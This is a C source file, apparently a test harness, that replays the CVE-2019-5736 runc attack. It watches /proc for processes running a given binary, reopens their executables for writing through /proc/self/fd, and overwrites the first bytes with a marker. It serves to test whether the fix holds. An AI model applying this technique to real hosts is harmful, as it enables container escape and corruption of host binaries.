/*
 * Plays the attacker of CVE-2019-5736: keeps a descriptor of the file of every process that runs the given file, or a
 * copy of it that has no name, and writes to it as soon as that is possible (a running program's file is busy). Touches
 * no other file. Prints "seen N" at the end, and WORKED if a write succeeded. Arguments: device, inode and size of
 * the file, as stat(1) has them, and seconds.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { HELD_MAX = 512 };
static int held[HELD_MAX], held_len, seen;
static unsigned long long device, inode, size;

static int is_wanted(int fd)
{
	struct stat st;

	if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) || (unsigned long long)st.st_size != size)
		return 0;
	return st.st_nlink == 0 || (st.st_dev == device && st.st_ino == inode);
}

static void hold(const char *pid)
{
	char path[300];
	int fd;

	if (!isdigit((unsigned char)pid[0]))
		return;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	fd = open(path, O_PATH);
	if (fd < 0)
		return;
	if (held_len == HELD_MAX || !is_wanted(fd)) {
		close(fd);
		return;
	}
	seen++;
	held[held_len++] = fd;
}

static void write_to_held(void)
{
	for (int i = 0; i < held_len; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY);
		if (fd >= 0 && is_wanted(fd) && write(fd, "\177BAD", 4) == 4)
			printf("WORKED\n");
		if (fd >= 0)
			close(fd);
	}
}

int main(int argc, char **argv)
{
	time_t end;

	if (argc != 5)
		return 2;
	device = strtoull(argv[1], NULL, 10);
	inode = strtoull(argv[2], NULL, 10);
	size = strtoull(argv[3], NULL, 10);
	end = time(NULL) + atoi(argv[4]);
	while (time(NULL) <= end) {
		DIR *d = opendir("/proc");
		struct dirent *entry;

		while (d && (entry = readdir(d)))
			hold(entry->d_name);
		if (d)
			closedir(d);
		write_to_held();
		if (held_len == HELD_MAX)
			while (held_len > 0)
				close(held[--held_len]);
	}
	write_to_held();
	printf("seen %d\n", seen);
	return 0;
}
